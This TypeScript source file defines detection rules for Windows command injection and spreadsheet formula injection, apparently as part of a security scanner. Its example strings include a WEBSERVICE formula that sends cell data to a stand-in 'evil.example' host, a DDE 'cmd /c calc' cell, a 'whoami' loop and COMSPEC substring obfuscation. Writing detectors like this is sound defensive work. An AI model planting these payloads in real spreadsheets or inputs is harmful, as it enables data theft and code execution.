import { word } from "../keywords.ts";
import type { Pattern } from "../pattern.ts";
import { nameEndsAt, PIPE, SEMICOLON } from "../shell_grammar.ts";
import { BOUND, NUMBER, type Tokens, WORD } from "../tokens.ts";

const C_WORD = word("c"), R_WORD = word("r"), K_WORD = word("k"), COMSPEC = word("comspec"), EXE = word("exe");
const ENV = word("env"), FOR = word("for"), DDEAUTO = word("ddeauto");
const SLASH = 0x2f, OPEN = 0x28, MINUS = 0x2d, EQUALS = 0x3d, DOT = 0x2e;

/** `=WEBSERVICE("http://…")`, `=DDE("cmd";…)`: cells of a spreadsheet that reach out. */
function isFormula(t: Tokens, i: number): boolean {
  const before = t.kind[i - 1] as number;
  // DDEAUTO c:\\windows\\…
  if (t.word[i] === DDEAUTO) return t.spaced(i + 1) && (t.kind[i + 2] === 0x3a || t.isQuote(i + 1));
  if (t.kind[i + 1] !== OPEN || (before !== EQUALS && before !== 0x2b && before !== MINUS && before !== 0x40)) {
    return false;
  }
  return t.kind[i - 2] === BOUND || t.isQuote(i - 2) || t.kind[i - 2] === 0x2c || t.kind[i - 2] === SEMICOLON;
}

/** `%COMSPEC:~-7,3%`: letters out of a variable. */
function isVariablePart(t: Tokens, i: number): boolean {
  const before = t.kind[i - 2] as number;
  return t.kind[i + 1] === 0x7e && t.glued(i + 1) && t.kind[i - 1] === WORD && t.glued(i) &&
    (before === 0x25 || before === 0x21) && (t.kind[i + 2] === NUMBER || t.kind[i + 2] === MINUS);
}

/** `for /f %i in ('whoami') do …` */
function isLoop(t: Tokens, i: number): boolean {
  if (t.kind[i + 1] !== SLASH || !t.spaced(i + 1) || !LOOPS.has(t.word[i + 2] as number)) return false;
  for (let at = i + 3; at < i + 12; at++) {
    if (t.kind[at] === 0x25) return t.kind[at + 1] === WORD || t.kind[at + 1] === 0x25;
  }
  return false;
}

function isWindowsShell(t: Tokens, i: number): boolean {
  // %COMSPEC% /c, $env:comspec
  if (t.word[i] === COMSPEC) {
    return (t.kind[i - 1] === 0x25 && t.kind[i + 1] === 0x25) || (t.kind[i - 1] === 0x3a && t.word[i - 2] === ENV);
  }
  // & calc.exe
  if (t.word[i] === EXE) {
    if (t.kind[i - 1] !== DOT || t.kind[i - 2] !== WORD || !t.glued(i) || !t.glued(i - 1)) return false;
    const before = t.kind[i - 3] as number;
    const isEnd = t.kind[i + 1] === BOUND || t.spaced(i + 1) || t.kind[i + 1] === 0x26 || t.kind[i + 1] === PIPE;
    if (before === PIPE || before === 0x26) return isEnd && t.kind[i - 4] !== EQUALS;
    return before === SEMICOLON && t.glued(i - 2) && isEnd;
  }
  const behind = nameEndsAt(t, i);
  // =cmd|'/c calc'!A0
  if (
    t.kind[behind] === PIPE &&
    (t.kind[i - 1] === 0x3d || t.kind[i - 1] === 0x2b || t.kind[i - 1] === MINUS || t.kind[i - 1] === 0x2a ||
      t.kind[i - 1] === 0x40)
  ) {
    return t.isQuote(behind + 1) || t.kind[behind + 1] === SLASH;
  }
  if (t.kind[behind] !== SLASH || !t.glued(behind + 1)) return false;
  let option = t.word[behind + 1] as number;
  // cmd /q /v:on /c
  for (let at = behind, n = 0; n < 3 && SWITCHES.has(option); n++) {
    at += t.kind[at + 2] === 0x3a ? 4 : 2;
    if (t.kind[at] !== SLASH) return false;
    option = t.word[at + 1] as number;
  }
  return option === C_WORD || option === K_WORD || option === R_WORD;
}

const SWITCHES = new Set(["v", "q", "d", "s", "a", "u", "e"].map(word));
const LOOPS = new Set(["f", "l", "r", "d"].map(word));

/** The command processor of Windows, and cells of spreadsheets that start programs or reach out. */
export const WINDOWS = {
  shell: {
    name: "cmd-windows-shell",
    category: "command-injection",
    severity: "high",
    catches: "cmd /c, %COMSPEC%, and cells of spreadsheets that start programs",
    example: "cmd.exe /c dir",
    nearMiss: "set cmd to on and path to /c",
    at: ["cmd", "comspec", "msexcel", "rundll32", "exe"].map(word),
    test: isWindowsShell,
  },
  loop: {
    name: "cmd-windows-loop",
    category: "command-injection",
    severity: "medium",
    catches: "A loop of the command processor of Windows",
    example: "for /f %i in ('whoami') do echo %i",
    nearMiss: "for /f you need 5 %",
    at: [FOR],
    gate: "separator",
    test: isLoop,
  },
  part: {
    name: "cmd-variable-part",
    category: "command-injection",
    severity: "medium",
    catches: "Letters taken out of a variable of Windows, of which a command is put together",
    example: "%COMSPEC:~0,1%md",
    nearMiss: "at 12:~5 and %a: ~ 5%",
    weak: true,
    at: [":~"],
    test: isVariablePart,
  },
  formula: {
    name: "cmd-formula",
    category: "command-injection",
    severity: "medium",
    catches: "A cell of a spreadsheet that reaches the network or a program",
    example: '=WEBSERVICE("http://evil.example/"&A1)',
    nearMiss: "=SUM(A1:A9) call webservice(x)",
    at: [
      "hyperlink",
      "importxml",
      "importdata",
      "importfeed",
      "importhtml",
      "importrange",
      "webservice",
      "dde",
      "exec",
      "call",
      "rtd",
      "ddeauto",
    ]
      .map(word),
    test: isFormula,
  },
} as const satisfies Readonly<Record<string, Pattern>>;
